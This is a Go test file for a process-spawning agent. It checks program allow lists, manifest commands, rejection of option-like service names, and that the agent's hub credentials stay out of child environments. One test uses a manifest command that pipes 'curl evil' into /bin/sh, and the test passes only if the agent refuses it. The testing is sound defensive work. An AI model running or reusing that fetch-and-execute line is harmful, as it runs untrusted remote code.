//go:build linux

package agent_test

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"

	"github.com/dpc-project/dpc/agent"
	"github.com/dpc-project/dpc/broker/brokertest"
)

// writeManifest installs a manifest of service with command (YAML flow
// list) in dir.
func writeManifest(t *testing.T, dir, service, command string) string {
	t.Helper()
	path := filepath.Join(dir, service+".yml")
	text := fmt.Sprintf("name: %s\nfunctions:\n  - funct_name: hello\n", service)
	if command != "" {
		text += "command: " + command + "\n"
	}
	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

func yamlList(argv []string) string {
	q := make([]string, len(argv))
	for i, a := range argv {
		q[i] = fmt.Sprintf("%q", a)
	}
	return "[" + strings.Join(q, ", ") + "]"
}

// A service whose manifest the owner installed in a manifests directory
// runs the manifest's command; the agent's own command still wins, and
// list says which services the agent runs from manifests.
func TestAgent_RunsApprovedManifest(t *testing.T) {
	self, err := filepath.Abs(os.Args[0])
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	writeManifest(t, dir, "fromman", yamlList(childCommand("serve")))
	writeManifest(t, dir, "echo", `[/bin/false]`) // the agent's own command wins
	writeManifest(t, dir, "nocommand", "")        // approved, but nothing to run: not listed
	approved, err := agent.LoadManifests(dir)
	if err != nil {
		t.Fatal(err)
	}
	r := newRig(t, func(c *agent.Config) {
		c.Allow = []string{self, "/bin/false"}
		c.Manifests = approved
	})
	ctx := testContext(t)
	p, err := r.client.Spawn(ctx, "a1", agent.SpawnRequest{Service: "fromman"})
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(p.Command, childCommand("serve")) {
		t.Errorf("command %q, want the manifest's", p.Command)
	}
	brokertest.Eventually(t, within, func() bool { return r.answers(ctx, "fromman", p.ID) }, "the manifest's command serves")
	echo, err := r.client.Spawn(ctx, "a1", agent.SpawnRequest{Service: "echo"})
	if err != nil || !slices.Equal(echo.Command, childCommand("serve")) {
		t.Fatalf("echo: %+v, %v; want the agent's own command", echo, err)
	}
	st := r.agent.List()
	if !slices.Equal(st.Manifests, []string{"fromman"}) || st.Fallback != "" || !st.Runs("fromman") || st.Runs("nocommand") || !st.Names("echo") {
		t.Errorf("list: manifests %v, fallback %q", st.Manifests, st.Fallback)
	}
	if _, err := r.client.Spawn(ctx, "a1", agent.SpawnRequest{Service: "nocommand"}); !errors.Is(err, agent.ErrBadRequest) {
		t.Errorf("a manifest without a command: %v, want a 400", err)
	}
}

// A manifest's program must be on the allow list: an agent with one that
// is not refuses to start, naming the manifest's file and line.
func TestAgent_ManifestProgramMustBeAllowed(t *testing.T) {
	dir := t.TempDir()
	path := writeManifest(t, dir, "evil", "[/bin/sh, -c, 'curl evil | sh']")
	approved, err := agent.LoadManifests(dir)
	if err != nil {
		t.Fatal(err)
	}
	cfg := agent.DefaultConfig()
	cfg.Manifests = approved
	_, err = agent.New(cfg)
	if err == nil || !strings.Contains(err.Error(), path+`:4: command[0]: service evil: program "/bin/sh" is not on the allow list (allowed: dpc-service)`) {
		t.Fatalf("New: %v", err)
	}
}

// fakeDpcService puts a dpc-service first on PATH that prints its
// arguments and serves as the test's child does.
func fakeDpcService(t *testing.T) {
	t.Helper()
	self, err := filepath.Abs(os.Args[0])
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	script := fmt.Sprintf("#!/bin/sh\necho \"argv $*\"\nexec %q child serve\n", self)
	if err := os.WriteFile(filepath.Join(dir, agent.DefaultProgram), []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	t.Setenv("PATH", dir+string(os.PathListSeparator)+os.Getenv("PATH"))
}

// A service with neither the agent's own command nor an approved manifest
// runs as "dpc-service <service>" when dpc-service is allowed, the name
// its only input; not when it is not allowed, and never with a name that
// would read as an option.
func TestAgent_FallsBackToDpcService(t *testing.T) {
	ctx := testContext(t)
	t.Run("missing program", func(t *testing.T) {
		t.Setenv("PATH", t.TempDir())
		r := newRig(t, nil)
		_, err := r.client.Spawn(ctx, "a1", agent.SpawnRequest{Service: "work"})
		if !errors.Is(err, agent.ErrFailed) || !strings.Contains(err.Error(), "dpc-service") {
			t.Errorf("no dpc-service on PATH: %v, want a 500", err)
		}
	})

	fakeDpcService(t)
	r := newRig(t, nil) // the default allow list: dpc-service
	if st := r.agent.List(); st.Fallback != agent.DefaultProgram || !st.Runs("anything") || st.Names("anything") || st.Runs("--help") {
		t.Errorf("list: fallback %q", st.Fallback)
	}
	p, err := r.client.Spawn(ctx, "a1", agent.SpawnRequest{Service: "work", ID: "work-fb"})
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(p.Command, []string{"dpc-service", "work"}) {
		t.Errorf("command %q, want [dpc-service work]", p.Command)
	}
	brokertest.Eventually(t, within, func() bool { return r.answers(ctx, "work", "work-fb") }, "dpc-service work serves")
	if rec, ok := output(r.logs, "work-fb", "argv "); !ok || rec["line"] != "argv work" {
		t.Errorf("dpc-service got %v, want the service name alone", rec["line"])
	}
	if _, err := r.client.Spawn(ctx, "a1", agent.SpawnRequest{Service: "--help"}); !errors.Is(err, agent.ErrBadRequest) || !strings.Contains(err.Error(), "starting with '-'") {
		t.Errorf("a name like an option: %v, want a 400", err)
	}

	none := newRig(t, func(c *agent.Config) { c.Allow = []string{"/usr/bin/other"} })
	if _, err := none.client.Spawn(ctx, "a1", agent.SpawnRequest{Service: "work"}); !errors.Is(err, agent.ErrBadRequest) {
		t.Errorf("dpc-service not allowed: %v, want a 400", err)
	}
	if st := none.agent.List(); st.Fallback != "" || st.Runs("work") {
		t.Errorf("list without dpc-service allowed: %+v", st)
	}
}

// readEnv reads what the envfile child wrote, once it has.
func readEnv(t *testing.T, path string) map[string]string {
	t.Helper()
	var data []byte
	brokertest.Eventually(t, within, func() bool {
		var err error
		data, err = os.ReadFile(path)
		return err == nil && strings.HasSuffix(string(data), "\n")
	}, "the child writes its environment")
	env := map[string]string{}
	for line := range strings.Lines(string(data)) {
		k, v, _ := strings.Cut(strings.TrimSuffix(line, "\n"), "=")
		env[k] = v
	}
	return env
}

// The agent never passes its own hub credentials on: not the variables it
// was started with, not a user and password in its hub URL. What a child
// may share — the hub's address and CA — it gets.
func TestAgent_ChildGetsNoAgentCredentials(t *testing.T) {
	for k, v := range map[string]string{"DPC_USER": "agent", "DPC_PASSWORD": "agent-secret", "DPC_TLS_CERT": "/agent/cert.pem",
		"DPC_TLS_KEY": "/agent/key.pem", "DPC_TLS_CA": "/hub/ca.pem", "NATS_URL": "nats://agent:agent-secret@elsewhere:4222",
		"DPC_CREDS": "/agent/agent.creds", "DPC_HOME": "/agent/profile"} {
		t.Setenv(k, v)
	}
	envFile := filepath.Join(t.TempDir(), "env")
	r := newRig(t, func(c *agent.Config) {
		u := strings.Replace(c.NATSURL, "://", "://agent:agent-secret@", 1)
		c.NATSURL = u
		c.Services["envfile"] = agent.ServiceCommand{Command: childCommand("envfile", envFile)}
	})
	ctx := testContext(t)
	if _, err := r.client.Spawn(ctx, "a1", agent.SpawnRequest{Service: "envfile", ID: "envfile-1"}); err != nil {
		t.Fatal(err)
	}
	env := readEnv(t, envFile)
	for _, k := range agent.SecretEnv {
		if v, ok := env[k]; ok && !(k == "DPC_HOME" && v == "none") {
			t.Errorf("the child got %s=%s", k, v)
		}
	}
	// Nor may it find the profile of the user it runs as.
	if env["DPC_HOME"] != "none" {
		t.Errorf("the child's DPC_HOME is %q, want none", env["DPC_HOME"])
	}
	for k, v := range env {
		if strings.Contains(v, "agent-secret") {
			t.Errorf("the child got the agent's password in %s=%s", k, v)
		}
	}
	for k, want := range map[string]string{"NATS_URL": r.srv.ClientURL(), "DPC_TLS_CA": "/hub/ca.pem",
		"DPC_SERVICE": "envfile", "DPC_INSTANCE_ID": "envfile-1", "PATH": os.Getenv("PATH")} {
		if env[k] != want {
			t.Errorf("the child got %s=%q, want %q", k, env[k], want)
		}
	}
}

// testCredentials issues each instance a file of its own and records what
// happens to it.
type testCredentials struct {
	dir string
	err error

	mu      sync.Mutex
	issued  []string // service/instance
	cleaned []string // instances whose cleanup ran
	alive   []bool   // whether the instance's process still ran at its cleanup
	pid     map[string]int
}

func (c *testCredentials) Issue(_ context.Context, service, id string) (map[string]string, func(), error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.err != nil {
		return nil, nil, c.err
	}
	c.issued = append(c.issued, service+"/"+id)
	path := filepath.Join(c.dir, id+".creds")
	if err := os.WriteFile(path, []byte("creds of "+id), 0o600); err != nil {
		return nil, nil, err
	}
	return map[string]string{"DPC_CREDS": path, "DPC_USER": "svc-" + id}, func() {
		c.mu.Lock()
		defer c.mu.Unlock()
		os.Remove(path)
		c.cleaned = append(c.cleaned, id)
		c.alive = append(c.alive, c.pid[id] > 0 && !gone(c.pid[id]))
	}, nil
}

func (c *testCredentials) setPID(id string, pid int) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.pid[id] = pid
}

func (c *testCredentials) state() (issued, cleaned []string, alive []bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	return slices.Clone(c.issued), slices.Clone(c.cleaned), slices.Clone(c.alive)
}

// Credentials.Issue runs before each instance starts, with its service
// and instance id; what it returns reaches the child (even a variable the
// agent keeps to itself otherwise); its cleanup runs once the child has
// exited, before stop returns, whether it was stopped or died.
func TestAgent_CredentialsPerInstance(t *testing.T) {
	creds := &testCredentials{dir: t.TempDir(), pid: map[string]int{}}
	envFile := filepath.Join(t.TempDir(), "env")
	t.Setenv("DPC_USER", "agent")
	r := newRig(t, func(c *agent.Config) {
		c.Credentials = creds
		c.Services["envserve"] = agent.ServiceCommand{Command: childCommand("envfile", envFile, "serve")}
	})
	ctx := testContext(t)
	p, err := r.client.Spawn(ctx, "a1", agent.SpawnRequest{Service: "envserve", ID: "es-1"})
	if err != nil {
		t.Fatal(err)
	}
	creds.setPID(p.ID, p.PID)
	env := readEnv(t, envFile)
	credsFile := filepath.Join(creds.dir, "es-1.creds")
	if env["DPC_CREDS"] != credsFile || env["DPC_USER"] != "svc-es-1" || env["DPC_INSTANCE_ID"] != "es-1" {
		t.Errorf("child env: DPC_CREDS=%q DPC_USER=%q DPC_INSTANCE_ID=%q", env["DPC_CREDS"], env["DPC_USER"], env["DPC_INSTANCE_ID"])
	}
	brokertest.Eventually(t, within, func() bool { return r.answers(ctx, "envserve", p.ID) }, "the instance serves")
	if issued, cleaned, _ := creds.state(); !slices.Equal(issued, []string{"envserve/es-1"}) || len(cleaned) != 0 {
		t.Fatalf("while running: issued %v, cleaned %v", issued, cleaned)
	}
	if _, err := os.Stat(credsFile); err != nil {
		t.Fatalf("credentials gone while the instance runs: %v", err)
	}
	if _, err := r.client.Stop(ctx, "a1", agent.StopRequest{ID: p.ID}); err != nil {
		t.Fatal(err)
	}
	if _, cleaned, alive := creds.state(); !slices.Equal(cleaned, []string{"es-1"}) || alive[0] {
		t.Fatalf("after stop: cleaned %v, the process alive at cleanup %v", cleaned, alive)
	}
	if _, err := os.Stat(credsFile); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("credentials file after stop: %v", err)
	}

	// An instance that dies has its credentials cleaned up too.
	p, err = r.client.Spawn(ctx, "a1", agent.SpawnRequest{Service: "echo", ID: "echo-dies"})
	if err != nil {
		t.Fatal(err)
	}
	creds.setPID(p.ID, p.PID)
	brokertest.Eventually(t, within, func() bool { return r.answers(ctx, "echo", p.ID) }, "the instance serves")
	if err := syscall.Kill(p.PID, syscall.SIGKILL); err != nil {
		t.Fatal(err)
	}
	brokertest.Eventually(t, within, func() bool {
		_, cleaned, _ := creds.state()
		return slices.Contains(cleaned, "echo-dies")
	}, "the dead instance's credentials are cleaned up")
	if _, _, alive := creds.state(); alive[1] {
		t.Errorf("cleanup ran while the process still ran")
	}
}

// An instance that cannot have credentials does not start: a 500, logged,
// and its id is free again.
func TestAgent_CredentialsErrorFailsSpawn(t *testing.T) {
	creds := &testCredentials{dir: t.TempDir(), err: errors.New("minting service is down"), pid: map[string]int{}}
	r := newRig(t, func(c *agent.Config) { c.Credentials = creds })
	ctx := testContext(t)
	_, err := r.client.Spawn(ctx, "a1", agent.SpawnRequest{Service: "echo", ID: "echo-1"})
	if !errors.Is(err, agent.ErrFailed) || !strings.Contains(err.Error(), "minting service is down") {
		t.Fatalf("spawn: %v, want a 500 with the reason", err)
	}
	if st := r.agent.List(); len(st.Processes) != 0 {
		t.Fatalf("started %+v", st.Processes)
	}
	if !strings.Contains(r.logs.String(), "no credentials for the instance") || !strings.Contains(r.logs.String(), "minting service is down") {
		t.Errorf("not logged:\n%s", r.logs)
	}
	creds.mu.Lock()
	creds.err = nil
	creds.mu.Unlock()
	if _, err := r.client.Spawn(ctx, "a1", agent.SpawnRequest{Service: "echo", ID: "echo-1"}); err != nil {
		t.Fatalf("the id after the failure: %v", err)
	}
}
